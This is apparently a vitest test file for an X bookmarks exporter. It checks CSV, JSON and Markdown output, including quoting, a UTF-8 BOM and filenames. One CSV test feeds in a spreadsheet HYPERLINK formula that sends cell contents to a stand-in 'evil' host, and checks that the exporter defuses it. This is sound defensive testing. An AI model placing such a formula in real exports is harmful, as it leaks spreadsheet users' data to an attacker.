import { describe, expect, it } from "vitest";
import {
  CSV_BOM,
  csvField,
  csvHeader,
  exportEnd,
  exportFilename,
  exportFormat,
  exportItem,
  exportPreamble,
  markdownQuote,
  rowToCsv,
  toExportRecord,
  toJsonItem,
  toMarkdown,
  type ExportRecord,
} from "./export";
import type { BookmarkView } from "./list";

function view(over: Partial<BookmarkView> = {}, post: Partial<BookmarkView["post"]> = {}): BookmarkView {
  return {
    id: "42",
    version: 1,
    firstSeenAt: new Date("2025-02-01T10:00:00.000Z"),
    removedOnXAt: null,
    note: "",
    favorite: false,
    category: null,
    tags: [],
    post: {
      id: "1880000000000000001",
      text: "hello",
      postedAt: new Date("2025-01-31T23:59:00.000Z"),
      lang: "en",
      entities: null,
      media: [],
      metrics: null,
      url: "https://x.com/jack/status/1880000000000000001",
      deletedOnXAt: null,
      quoted: null,
      replyTo: null,
      ...post,
    },
    author: { id: "12", username: "jack", name: "Jack", profileImageUrl: null, verified: false },
    ...over,
  };
}

const record = (over: Partial<BookmarkView> = {}, post: Partial<BookmarkView["post"]> = {}) => toExportRecord(view(over, post));

describe("toExportRecord", () => {
  it("flattens a bookmark: names not ids, ISO dates, unescaped text, media links", () => {
    const r = record(
      {
        note: "read later",
        favorite: true,
        category: { id: 3, name: "Reading", color: "#fff" },
        tags: [
          { id: 1, name: "AI" },
          { id: 2, name: "機械学習" },
        ],
        removedOnXAt: new Date("2025-03-01T00:00:00Z"),
      },
      {
        text: "a &lt;b&gt; &amp;amp; c",
        media: [
          {
            key: "1",
            type: "photo",
            url: "https://pbs.example/1.jpg",
            previewUrl: "https://pbs.example/1s.jpg",
            width: 1,
            height: 1,
            altText: null,
            durationMs: null,
            videoUrl: null,
          },
          {
            key: "2",
            type: "video",
            url: null,
            previewUrl: "https://pbs.example/2.jpg",
            width: 1,
            height: 1,
            altText: null,
            durationMs: 5,
            videoUrl: "https://video.example/2.mp4",
          },
          {
            key: "3",
            type: "photo",
            url: null,
            previewUrl: null,
            width: null,
            height: null,
            altText: null,
            durationMs: null,
            videoUrl: null,
          },
        ],
      },
    );
    expect(r).toEqual<ExportRecord>({
      id: "42",
      url: "https://x.com/jack/status/1880000000000000001",
      authorName: "Jack",
      authorHandle: "jack",
      postedAt: "2025-01-31T23:59:00.000Z",
      text: "a <b> &amp; c",
      lang: "en",
      mediaUrls: ["https://pbs.example/1.jpg", "https://video.example/2.mp4"],
      tags: ["AI", "機械学習"],
      category: "Reading",
      note: "read later",
      favorite: true,
      removedOnXAt: "2025-03-01T00:00:00.000Z",
      firstSeenAt: "2025-02-01T10:00:00.000Z",
    });
  });
});

describe("CSV", () => {
  it("leaves plain fields alone and quotes those with quotes, commas, CR or LF", () => {
    expect(csvField("plain text")).toBe("plain text");
    expect(csvField("")).toBe("");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(csvField("line 1\r\nline 2")).toBe('"line 1\r\nline 2"');
  });

  it("keeps Japanese as is (no quoting needed for non-ASCII)", () => {
    expect(csvField("機械学習の論文、すごい")).toBe("機械学習の論文、すごい");
  });

  it("defuses formulas: =, +, -, @, tab and CR at the start get an apostrophe", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+81 3 1234")).toBe("'+81 3 1234");
    expect(csvField("-2")).toBe("'-2");
    expect(csvField("@jack hi")).toBe("'@jack hi");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("\rx")).toBe(`"'\rx"`);
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    // Only at the start.
    expect(csvField("1+1=2")).toBe("1+1=2");
    expect(csvField("a - b")).toBe("a - b");
  });

  it("has a header of the 14 columns, CRLF-terminated", () => {
    expect(csvHeader()).toBe(
      "id,url,author_name,author_handle,posted_at,text,lang,media_urls,tags,category,note,favorite,removed_on_x_at,first_saved_at\r\n",
    );
  });

  it("writes a row in header order with media space-separated and tags joined with comma-space", () => {
    const r = record(
      {
        tags: [
          { id: 1, name: "AI" },
          { id: 2, name: "tools" },
        ],
        note: 'He said "wow"\nthen left',
        favorite: true,
      },
      { text: "日本語のテキスト\n二行目", lang: "ja" },
    );
    r.mediaUrls = ["https://a/1.jpg", "https://a/2.jpg"];
    expect(rowToCsv(r)).toBe(
      [
        "42",
        "https://x.com/jack/status/1880000000000000001",
        "Jack",
        "jack",
        "2025-01-31T23:59:00.000Z",
        '"日本語のテキスト\n二行目"',
        "ja",
        "https://a/1.jpg https://a/2.jpg",
        '"AI, tools"',
        "",
        '"He said ""wow""\nthen left"',
        "true",
        "",
        "2025-02-01T10:00:00.000Z",
      ].join(",") + "\r\n",
    );
  });

  it("writes empty fields for no lang, category or removal", () => {
    const line = rowToCsv(record({}, { lang: null }));
    expect(line.split(",")).toHaveLength(14);
    expect(line).toContain(",hello,,,,,,false,,2025-02-01T10:00:00.000Z\r\n");
  });

  it("starts the file with a UTF-8 BOM, then the header", () => {
    const pre = exportPreamble("csv", new Date());
    expect(pre.startsWith(CSV_BOM)).toBe(true);
    expect(pre.slice(1)).toBe(csvHeader());
    expect(Buffer.from(pre, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});

describe("JSON", () => {
  const items = (n: number) => Array.from({ length: n }, (_, i) => record({ id: String(i) }));
  const file = (rs: ExportRecord[]) =>
    exportPreamble("json", new Date()) + rs.map((r, i) => exportItem("json", r, i)).join("") + exportEnd("json", rs.length);

  it("is valid JSON for 0, 1 and many items, one object per line", () => {
    expect(JSON.parse(file([]))).toEqual([]);
    expect(file([])).toBe("[\n]\n");
    expect(JSON.parse(file(items(1)))).toEqual(items(1));
    const three = file(items(3));
    expect(JSON.parse(three)).toEqual(items(3));
    expect(three.split("\n")).toHaveLength(6); // [, 3 objects, ], trailing newline
  });

  it("puts a comma before every item but the first; camelCase fields, tags as names, category name or null", () => {
    expect(toJsonItem(record(), 0).startsWith("{")).toBe(true);
    expect(toJsonItem(record(), 1).startsWith(",\n{")).toBe(true);
    const o = JSON.parse(toJsonItem(record({ tags: [{ id: 9, name: "AI" }] }, { text: 'a\n"b" 日本' }), 0)) as Record<string, unknown>;
    expect(o.tags).toEqual(["AI"]);
    expect(o.category).toBeNull();
    expect(o.text).toBe('a\n"b" 日本');
    expect(Object.keys(o)).toContain("firstSeenAt");
  });
});

describe("Markdown", () => {
  it("quotes every line of multi-line text, blank lines included", () => {
    expect(markdownQuote("one")).toBe("> one");
    expect(markdownQuote("one\ntwo\n\nfour")).toBe("> one\n> two\n>\n> four");
    expect(markdownQuote("a\r\nb\rc")).toBe("> a\n> b\n> c");
  });

  it("writes the heading, the quote, the meta line, the note and the link", () => {
    const md = toMarkdown(
      record(
        {
          tags: [
            { id: 1, name: "a" },
            { id: 2, name: "b" },
          ],
          category: { id: 1, name: "x", color: "#000" },
          favorite: true,
          note: "worth a reread",
        },
        { text: "first line\nsecond line &amp; more", lang: "ja" },
      ),
    );
    expect(md).toBe(
      [
        "## @jack — Jack · 2025-01-31",
        "> first line\n> second line & more",
        "Tags: #a #b · Category: x · ★",
        "**Note:** worth a reread",
        "https://x.com/jack/status/1880000000000000001 · saved 2025-02-01 · lang ja · bookmark 42",
      ].join("\n\n") + "\n\n",
    );
  });

  it("leaves out what is not there", () => {
    const md = toMarkdown(record({}, { lang: null }));
    expect(md).not.toContain("Tags:");
    expect(md).not.toContain("Note:");
    expect(md).not.toContain("lang");
    expect(md).toContain("> hello");
  });

  it("shows a removal on X and media links", () => {
    const r = record({ removedOnXAt: new Date("2025-03-05T12:00:00Z") });
    r.mediaUrls = ["https://a/1.jpg"];
    const md = toMarkdown(r);
    expect(md).toContain("Removed on X 2025-03-05");
    expect(md).toContain("Media: https://a/1.jpg");
  });

  it("has a title with the export date, and says so when there is nothing", () => {
    expect(exportPreamble("md", new Date("2025-04-02T08:00:00Z"))).toBe("# X bookmarks\n\nExported 2025-04-02.\n\n");
    expect(exportEnd("md", 0)).toBe("No bookmarks to export.\n");
    expect(exportEnd("md", 3)).toBe("");
  });
});

describe("format and filename", () => {
  it("accepts csv, json and md only, with a readable message", () => {
    expect(exportFormat.safeParse("md").success).toBe(true);
    const bad = exportFormat.safeParse("xlsx");
    expect(bad.success).toBe(false);
    expect(bad.error?.issues[0]?.message).toBe("format must be csv, json or md");
  });

  it("names the file by format and UTC date", () => {
    const now = new Date("2025-12-31T23:30:00Z");
    expect(exportFilename("csv", now)).toBe("x-bookmarks-2025-12-31.csv");
    expect(exportFilename("json", now)).toBe("x-bookmarks-2025-12-31.json");
    expect(exportFilename("md", now)).toBe("x-bookmarks-2025-12-31.md");
  });
});
